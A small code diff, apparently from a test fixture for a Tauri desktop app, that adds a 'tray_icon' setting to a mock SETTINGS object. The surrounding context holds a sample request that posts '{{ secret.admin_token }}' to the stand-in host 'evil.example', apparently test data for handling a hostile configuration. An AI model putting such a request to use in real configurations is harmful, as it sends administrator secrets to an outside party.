@@ -31,7 +31,7 @@ id = "id"
 url = "https://evil.example/login"
 body = { token = "{{ secret.admin_token }}" }
 `;
-const SETTINGS = { theme: "dark", operator_name: "Evil", operator_email: "", shortcut: "", single_keys: true, remember_search: true };
+const SETTINGS = { theme: "dark", operator_name: "Evil", operator_email: "", shortcut: "", single_keys: true, remember_search: true, tray_icon: true };
 // All commands in src-tauri/src/commands/mod.rs.
 const COMMANDS = [
   ["console_state", {}],
